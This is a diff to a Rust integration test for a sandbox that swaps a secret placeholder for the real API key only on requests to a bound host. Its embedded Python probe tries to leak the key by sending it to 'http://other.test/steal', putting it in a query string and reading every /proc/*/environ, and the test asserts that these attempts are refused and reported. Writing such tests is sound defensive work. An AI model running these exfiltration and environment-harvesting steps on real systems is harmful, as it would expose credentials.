@@ -17,6 +17,7 @@ use std::sync::{Arc, Mutex, OnceLock};
 use std::time::Duration;
 
 use common::{bin, is_root, required, OuterNet};
+use sandbench::egress::Decision;
 use sandbench::event::ViolationKind;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
@@ -42,7 +43,9 @@ struct Internet {
 }
 
 /// Read one request (head and a Content-Length body), log it, and answer
-/// with the request itself as the body (an upstream that echoes headers).
+/// with the request itself as the body (an upstream that echoes headers):
+/// as is, base64 and hex too on `/forms`, in 7-byte chunks on `/chunked`
+/// (a value split across chunks), and in a response header on `/header`.
 async fn echo<S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin>(mut s: S, log: Arc<Log>) {
     let mut req = vec![];
     let mut b = [0u8; 4096];
@@ -72,10 +75,37 @@ async fn echo<S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin>(mut s: S,
         }
     }
     log.0.lock().unwrap().extend_from_slice(&req);
-    let mut reply =
-        format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nX-Echo: yes\r\nConnection: close\r\n\r\n", req.len())
-            .into_bytes();
-    reply.extend_from_slice(&req);
+    let line = String::from_utf8_lossy(&req[..req.iter().position(|b| *b == b'\n').unwrap_or(0)]).into_owned();
+    let mut body = req.clone();
+    if line.contains("/forms") {
+        use base64::Engine;
+        body.extend_from_slice(b"\nB64 ");
+        body.extend_from_slice(base64::engine::general_purpose::STANDARD.encode(&req).as_bytes());
+        body.extend_from_slice(b"\nHEX ");
+        body.extend(req.iter().flat_map(|b| format!("{b:02x}").into_bytes()));
+    }
+    let auth = String::from_utf8_lossy(&req[..head_end])
+        .lines()
+        .find_map(|l| l.strip_prefix("authorization: ").or_else(|| l.strip_prefix("Authorization: ")).map(String::from))
+        .unwrap_or_default();
+    let reply = if line.contains("/chunked") {
+        let mut r = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n".to_vec();
+        for c in body.chunks(7) {
+            r.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
+            r.extend_from_slice(c);
+            r.extend_from_slice(b"\r\n");
+        }
+        r.extend_from_slice(b"0\r\n\r\n");
+        r
+    } else {
+        let mut r = format!(
+            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nX-Echo-Authorization: {auth}\r\nConnection: close\r\n\r\n",
+            body.len()
+        )
+        .into_bytes();
+        r.extend_from_slice(&body);
+        r
+    };
     let _ = s.write_all(&reply).await;
     let _ = s.shutdown().await;
 }
@@ -156,11 +186,27 @@ impl Internet {
 /// Uses the placeholder against the bound host (its echo comes back), then
 /// against the unbound one; prints what it holds.
 const PROGRAM: &str = r#"
-import os, urllib.request
+import glob, os, urllib.request
 ph = os.environ["API_KEY"]
 print("ENV", ph)
 req = urllib.request.Request("https://api.test/v1/echo", headers={"Authorization": "Bearer " + ph})
-print("ECHO", urllib.request.urlopen(req, timeout=30).read().decode())
+r = urllib.request.urlopen(req, timeout=30)
+print("ECHO", r.read().decode())
+print("ECHO-HEADER", r.headers.get("X-Echo-Authorization"))
+for path in ("/v1/forms", "/v1/chunked"):
+    req = urllib.request.Request("https://api.test" + path, headers={"Authorization": "Bearer " + ph})
+    print("ECHO" + path, urllib.request.urlopen(req, timeout=30).read().decode())
+try:
+    urllib.request.urlopen("https://api.test/v1/q?key=" + ph, timeout=30)
+    print("QUERY REACHED")
+except Exception as e:
+    print("query refused", e)
+# Every environment this program can read.
+for f in glob.glob("/proc/*/environ"):
+    try:
+        print("ENVIRON", f, open(f, "rb").read().replace(b"\0", b" ").decode(errors="replace"))
+    except OSError:
+        pass
 try:
     r = urllib.request.Request("http://other.test/steal", headers={"Authorization": "Bearer " + ph})
     urllib.request.urlopen(r, timeout=30)
@@ -245,14 +291,29 @@ fn the_program_never_holds_the_value(tier: &str) {
     let api = net.api.text();
     assert!(api.contains(&format!("Bearer {VALUE}\r\n")), "the bound host did not get the value:\n{api}\n{says}");
     assert!(!api.contains(&ph), "{api}");
-    // Its echo came back to the program with the placeholder in the value's place.
+    // Its echoes (body, response header, base64, hex, chunked) came back to
+    // the program with the placeholder in the value's place.
     assert!(r.stdout.contains(&format!("Bearer {ph}")), "{says}");
+    assert!(r.stdout.contains(&format!("ECHO-HEADER Bearer {ph}")), "{says}");
+    assert!(r.stdout.contains("ECHO/v1/forms") && r.stdout.contains("ECHO/v1/chunked"), "{says}");
+    // A placeholder in the query (headers only) never left.
+    assert!(r.stdout.contains("query refused") && !api.contains("/v1/q?"), "{says}");
     // The unbound host got nothing; the request was refused and reported.
     assert_eq!(net.other.text(), "", "the unbound host was reached");
     assert!(r.stdout.contains("misdirected refused") && !r.stdout.contains("REACHED"), "{says}");
-    let v =
-        r.violations.iter().find(|v| v.kind == ViolationKind::SecretMisdirected).unwrap_or_else(|| panic!("{says}"));
-    assert!(v.detail.contains("API_KEY") && v.detail.contains("other.test"), "{v:?}");
+    // The run is a secret_misdirected violation (one entry per kind); each
+    // refusal is a network record naming the secret, never the value.
+    assert!(r.violations.iter().any(|v| v.kind == ViolationKind::SecretMisdirected), "{says}");
+    let misdirected = |to: &str, what: &str| {
+        r.network.iter().any(|n| {
+            n.decision == Decision::Denied
+                && n.misdirected.as_deref() == Some("API_KEY")
+                && n.host == to
+                && n.detail.contains(what)
+        })
+    };
+    assert!(misdirected("other.test", "not bound"), "{says}");
+    assert!(misdirected("api.test", "in the query"), "{says}");
     // The report says what happened to the secret, by name.
     assert_eq!(r.secrets.len(), 1, "{says}");
     let s = &r.secrets[0];
